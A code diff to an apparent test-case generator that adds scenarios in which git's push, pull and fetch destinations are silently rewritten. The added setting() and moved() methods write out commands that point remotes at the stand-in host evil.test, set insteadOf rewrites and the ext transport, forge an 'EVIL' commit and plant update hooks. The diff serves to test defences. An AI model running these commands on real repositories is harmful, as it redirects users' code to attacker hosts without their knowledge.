@@ -5,9 +5,11 @@ import random
 
 import content
 import names
+import upstream
 
 BOXES = ("run", "kill", "session", "beside")  # steps whose last word is a list of operations
 SLOW = 20  # one of so many sequences is node's
+UPSTREAM = 8  # one of so many is about git's upstreams
 PAUSE = 130  # milliseconds; a run that is longer than a tenth of a second is looked at in another way
 HOOKS = ["pre-commit", "post-commit", "post-index-change", "reference-transaction", "post-checkout", "commit-msg"]
 TREES = ["plain"] * 5 + ["nested"] * 5 + ["trusted"] * 4 + ["many", "dotfiles", "node"]
@@ -275,6 +277,52 @@ class Maker:
             ops += self.noise()
         return ops
 
+    # --- where git goes
+
+    def setting(self):
+        """A command that changes where git pushes, pulls or connects."""
+        e = self.r.choice([".git/e", "{project}/lib/e", "lib/e", "https://evil.test/x", "http://evil.test/x",
+                           "ssh://evil.test/x", "evil.test:x", "git@evil.test:x"])
+        remote = self.r.choice(["fork", "e", "far", e, e, "."])
+        branch = self.r.choice(["main", "main", "feature", "z"])
+        ref = self.r.choice(["refs/pull/66/head", "refs/heads/z", "refs/heads/feature", "refs/heads/main"])
+        name = self.r.choice(["origin", "origin", "fork", "e", "far", ".", e])
+        return self.r.choice([
+            f"git config remote.{name}.push +{self.r.choice(['z', 'HEAD~', 'z', ''])}:refs/heads/{branch}",
+            f"git config remote.{name}.{self.r.choice(['url', 'pushurl'])} {e}",
+            f"git config --add remote.{name}.{self.r.choice(['url', 'pushurl'])} {e}",
+            f"git config branch.{branch}.{self.r.choice(['remote', 'pushRemote'])} {remote}",
+            f"git config branch.{branch}.merge {ref}", f"git config --add branch.{branch}.merge {ref}",
+            f"git config branch.{branch}.remote origin; git config branch.{branch}.merge {ref}",
+            f"git config remote.pushDefault {remote}", "git config --unset remote.pushDefault",
+            f"git config --unset branch.{branch}.remote",
+            f"git config push.default {self.r.choice(['matching', 'current', 'upstream'])}",
+            "git config remote.origin.mirror true", "git config push.autoSetupRemote true",
+            f"git config remote.{name}.fetch +{ref}:refs/heads/{self.r.choice(['feature', 'main'])}",
+            f"git config url.{e}.{self.r.choice(['insteadOf', 'pushInsteadOf'])} ../..",
+            f"git remote remove {name}", f"git remote rename {name} {self.r.choice(['e', 'far', 'origin'])}",
+            f"git remote add {name} {e}", f"git config remote.{name}.vcs ext",
+            f"git config extensions.worktreeConfig true; git config --worktree remote.{name}.pushurl {e}",
+            f"git config core.repositoryformatversion 1; git config extensions.partialClone {name}; "
+            f"git config remote.{name}.promisor true; git config remote.{name}.url {e}; "
+            "o=$(git hash-object -w lib/a); git add lib/a; "
+            "rm -f .git/objects/${o%${o#??}}/${o#??}"])
+
+    def moved(self):
+        """Settings by which the user's next push, pull or status would go elsewhere."""
+        commit = ("git -c user.name=e -c user.email=e commit-tree HEAD^{tree} -m EVIL" +
+                  self.r.choice(["", " -p HEAD"]))
+        ops = [["shell", f"git update-ref refs/heads/z $({commit})"]] if self.chance(0.7) else []
+        for place in (".git/e", "lib/e"):
+            if self.chance(0.4):
+                ops += [["shell", f"git init -q --bare {place}"]]
+                ops += self.write(f"{place}/hooks/update", self.script(), "755")
+        ops += [["shell", self.setting()] for _ in range(self.r.choice([1, 1, 2, 3, 4]))]
+        first = "\n".join([upstream.FIRST] + [text for text in (upstream.TRACKED, upstream.LOCKED) if self.chance(0.7)])
+        one, two = self.split(ops)
+        return [["host", first]] + self.r.choice([
+            [["run", ops]], [["run", ops]], [["run", one], ["run", two]], [["run", []], ["run", self.pause(ops)]]])
+
     # --- the steps
 
     def split(self, ops):
@@ -335,4 +383,7 @@ class Maker:
 
 def make(seed, index):
     maker = Maker(seed, index)
+    if index % UPSTREAM == UPSTREAM - 1:
+        maker.tree = "plain"
+        return {"tree": "plain", "steps": maker.moved()}
     return {"tree": maker.tree, "steps": maker.steps()}
